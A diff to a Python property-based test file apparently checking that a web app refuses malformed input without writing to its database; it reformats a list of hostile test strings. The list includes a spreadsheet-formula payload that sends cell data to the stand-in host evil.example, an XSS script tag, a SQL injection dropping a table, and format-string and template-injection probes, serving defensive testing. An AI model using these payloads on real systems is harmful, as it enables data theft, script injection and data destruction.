@@ -4,6 +4,7 @@ Hypothesis runs many examples per test; a fresh database per example would be sl
 module gets one copy of the seeded database and checks "nothing was written" with a fingerprint
 of every table taken before and after each refused request.
 """
+
 from __future__ import annotations
 
 import hashlib
@@ -18,11 +19,45 @@ from tests.conftest import _make_app
 
 # Text a hostile or careless user might paste into any field.
 SPECIALS = [
-    "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"点击\")", "=1+2", "+1", "-1", "@SUM(A1:A2)", "\t=1", "\r=1",
-    "１２３", "１２．５", "－５", "５０％", "１，０００", "٣٤٥", "१२", "Ⅻ", "½", "1e309", "NaN", "inf", "-0",
-    "9" * 400, "0." + "0" * 400 + "1", "\x00", "\x00\x01\x1f\x7f", "\u202e1234", "\ufeff5", " ", "\n\n",
-    "<script>alert(1)</script>", "'; DROP TABLE indicator; --", "%s%n", "{{7*7}}", "2023-02-30", "9999-12-31",
-    "0000-00-00", "2023/1/1", "x" * 10_000, "填" * 10_000, "\U0001f600" * 3000,
+    '=HYPERLINK("http://evil.example/?x="&A1,"点击")',
+    "=1+2",
+    "+1",
+    "-1",
+    "@SUM(A1:A2)",
+    "\t=1",
+    "\r=1",
+    "１２３",
+    "１２．５",
+    "－５",
+    "５０％",
+    "１，０００",
+    "٣٤٥",
+    "१२",
+    "Ⅻ",
+    "½",
+    "1e309",
+    "NaN",
+    "inf",
+    "-0",
+    "9" * 400,
+    "0." + "0" * 400 + "1",
+    "\x00",
+    "\x00\x01\x1f\x7f",
+    "\u202e1234",
+    "\ufeff5",
+    " ",
+    "\n\n",
+    "<script>alert(1)</script>",
+    "'; DROP TABLE indicator; --",
+    "%s%n",
+    "{{7*7}}",
+    "2023-02-30",
+    "9999-12-31",
+    "0000-00-00",
+    "2023/1/1",
+    "x" * 10_000,
+    "填" * 10_000,
+    "\U0001f600" * 3000,
 ]
 hostile_text = st.one_of(
     st.sampled_from(SPECIALS),
